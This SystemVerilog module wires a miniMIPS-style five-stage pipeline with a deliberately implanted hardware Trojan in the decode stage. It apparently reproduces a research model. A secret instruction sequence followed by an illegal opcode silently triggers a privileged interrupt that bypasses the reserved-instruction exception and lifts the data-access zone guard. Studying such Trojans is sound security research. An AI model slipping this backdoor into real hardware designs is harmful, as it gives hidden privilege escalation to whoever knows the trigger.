// hit_minimips: a miniMIPS-style five-stage front end (PF, EI, DI, EX, MEM) with the
// hidden instruction Trojan implanted in the decode stage, and the coprocessor that
// turns the Trojan's request into a privileged interrupt.
//
// Pipeline, one instruction per cycle, no stalls:
//   PF  pf_stage: PC; imem_addr = pc, imem_rdata is read back in the same cycle.
//   EI  register holding the fetched word (valid, pc, instr).
//   DI  mips_decoder + hit_trojan on the EI register; results go to the EX register.
//       ERINS is raised for a reserved encoding unless the Trojan fires on it.
//   EX  register; the overflow flag of the instruction in EX (ex_overflow) is added.
//   MEM register; the coprocessor takes exceptions and ERET from it.
// Jumps and branches are resolved outside this block (register file and ALU are not part
// of it): di_jump / di_jump_addr say that the branch now in DI is taken. The word fetched
// in that cycle is then replaced by a null, which the Trojan's FSM ignores. A coprocessor
// redirect has priority over a jump in the PF stage and replaces the EI, EX and MEM
// contents by nulls. The hidden interrupt therefore reaches the fetch three cycles after
// the illegal instruction is decoded: DI at cycle t, EX t+1, MEM t+2 (redirect), the
// handler address is in the PC at t+3.
// Data accesses (dmem_req / dmem_addr, from the not-included EX datapath) pass the zone
// guard with the coprocessor's current mode.
//
// The stage names, the path DI -> EX -> MEM -> coprocessor -> PF of the hidden interrupt,
// the PF priority and the null-skipping FSM follow the source model. The branch
// resolution point, the single-cycle instruction memory and the flush rule are this
// design's choices.
module hit_minimips
  import hit_pkg::*;
#(
  parameter int                      BOOT_LEN       = BOOT_LEN_DEF,
  parameter inst_id_e [BOOT_LEN-1:0] BOOT_SEQ       = BOOT_SEQ_DEF,
  parameter logic     [BOOT_LEN-1:0] REUSE          = BOOT_REUSE_DEF,
  parameter int                      MASK_W         = MASK_W_DEF,
  parameter logic [5:0]              ILLEGAL_OPCODE = ILLEGAL_OPCODE_DEF,
  parameter logic [31:0]             RESET_PC       = RESET_PC_DEF,
  parameter logic [31:0]             EXC_VECTOR     = EXC_VECTOR_DEF,
  parameter logic [31:0]             ITMAT_VECTOR   = ITMAT_VECTOR_DEF,
  parameter logic [31:0]             HIT_VECTOR     = HIT_VECTOR_DEF,
  parameter logic [31:0]             EPC_RESET      = EPC_RESET_DEF,
  parameter logic [31:0]             USER_ZONE_TOP  = USER_ZONE_TOP_DEF,
  localparam int SW = $clog2(BOOT_LEN + 1)
) (
  input  logic              clk,
  input  logic              rst_n,
  // instruction memory
  output logic [31:0]       imem_addr,
  input  logic [31:0]       imem_rdata,
  // decode stage, towards the register file / branch unit
  output logic              di_valid,
  output logic [31:0]       di_pc,
  output logic [31:0]       di_instr,
  input  logic              di_jump,       // branch in DI is taken
  input  logic [31:0]       di_jump_addr,
  // execute stage
  input  logic              ex_overflow,   // instruction in EX overflowed
  // data memory access check
  input  logic              dmem_req,
  input  logic [31:0]       dmem_addr,
  output logic              dmem_grant,
  output logic              dmem_fault,
  // external hardware interrupt
  input  logic              it_mat,
  // status
  output logic [SW-1:0]     hit_state,
  output logic [MASK_W-1:0] hit_mask,
  output logic              exc_taken,
  output cause_e            exc_cause,
  output logic              priv,
  output logic              ie,
  output logic [31:0]       epc,
  output cause_e            last_cause
);
  typedef struct packed {
    logic        valid;
    logic [31:0] pc;
    logic [31:0] instr;
  } ei_t;

  typedef struct packed {
    logic        valid;
    logic [31:0] pc;
    exc_t        exc;
    logic        eret;
  } stage_t;

  ei_t         ei_q;
  stage_t      ex_q, mem_q, di_d;
  dec_t        dec;
  logic        hit_int, jmp;
  logic        redirect;
  logic [31:0] redirect_pc, pc;

  // PF
  pf_stage #(.RESET_PC(RESET_PC)) u_pf (
    .clk, .rst_n, .int_req(redirect), .int_addr(redirect_pc),
    .jmp, .jmp_addr(di_jump_addr), .pc);
  assign imem_addr = pc;

  // EI
  always_ff @(posedge clk) begin
    if (!rst_n)               ei_q <= '0;
    else if (redirect || jmp) ei_q <= '{valid: 1'b0, pc: pc, instr: 32'h0};
    else                      ei_q <= '{valid: 1'b1, pc: pc, instr: imem_rdata};
  end

  // DI
  mips_decoder u_dec (.instr(ei_q.instr), .dec);

  hit_trojan #(
    .BOOT_LEN(BOOT_LEN), .BOOT_SEQ(BOOT_SEQ), .REUSE(REUSE), .MASK_W(MASK_W),
    .ILLEGAL_OPCODE(ILLEGAL_OPCODE)
  ) u_trojan (
    .clk, .rst_n, .valid(ei_q.valid), .instr(ei_q.instr), .dec_id(dec.id),
    .hit_int, .state(hit_state), .mask(hit_mask));

  assign jmp = di_jump && ei_q.valid && dec.branch;

  always_comb begin
    di_d.valid     = ei_q.valid;
    di_d.pc        = ei_q.pc;
    di_d.exc.overf = 1'b0;
    di_d.exc.erins = dec.reserved && !hit_int;
    di_d.exc.brk   = dec.brk;
    di_d.exc.scall = dec.syscall;
    di_d.exc.hit   = hit_int;
    di_d.eret      = dec.eret;
  end

  assign di_valid = ei_q.valid;
  assign di_pc    = ei_q.pc;
  assign di_instr = ei_q.instr;

  // EX
  always_ff @(posedge clk) begin
    if (!rst_n || redirect) ex_q <= '0;
    else                    ex_q <= di_d;
  end

  // MEM
  always_ff @(posedge clk) begin
    if (!rst_n || redirect) begin
      mem_q <= '0;
    end else begin
      mem_q           <= ex_q;
      mem_q.exc.overf <= ex_q.valid && ex_overflow;
    end
  end

  // Coprocessor
  coprocessor #(
    .EXC_VECTOR(EXC_VECTOR), .ITMAT_VECTOR(ITMAT_VECTOR), .HIT_VECTOR(HIT_VECTOR),
    .EPC_RESET(EPC_RESET)
  ) u_cp0 (
    .clk, .rst_n, .mem_valid(mem_q.valid), .mem_pc(mem_q.pc), .mem_exc(mem_q.exc),
    .mem_eret(mem_q.eret), .it_mat, .redirect, .redirect_pc, .taken(exc_taken),
    .taken_cause(exc_cause), .priv, .ie, .epc, .cause(last_cause));

  // Data access protection
  zone_guard #(.USER_ZONE_TOP(USER_ZONE_TOP)) u_guard (
    .priv, .req(dmem_req), .addr(dmem_addr), .grant(dmem_grant), .fault(dmem_fault));
endmodule
